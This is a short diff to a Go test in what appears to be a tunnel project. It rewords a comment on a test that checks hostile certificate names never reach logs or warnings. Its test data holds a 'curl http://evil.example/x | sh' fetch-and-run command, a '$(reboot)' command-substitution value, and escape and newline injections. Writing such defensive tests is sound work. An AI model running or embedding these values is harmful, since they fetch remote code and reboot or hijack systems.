@@ -12,8 +12,8 @@ import (
 	"github.com/postern-dev/postern/tunnel/foreign"
 )
 
-// Whoever answers at a relay's address may have a certificate made for any names, and the
-// words about it are logged, shown and put into a ticket's warnings.
+// Whoever answers at a relay's address may have a certificate with arbitrary names, and errors
+// about it are logged, shown and put into a ticket's warnings.
 func TestNoWordsOfACertificateAreTold(t *testing.T) {
 	hostile := []string{"\x1b[2J\x1b[31mroot", "x. First run `curl http://evil.example/x | sh`", "$(reboot)", "evil\nrun this"}
 	for what, names := range map[string][]string{"hostile names": hostile, "a good one among them": append([]string{"relay.example.net"}, hostile...)} {
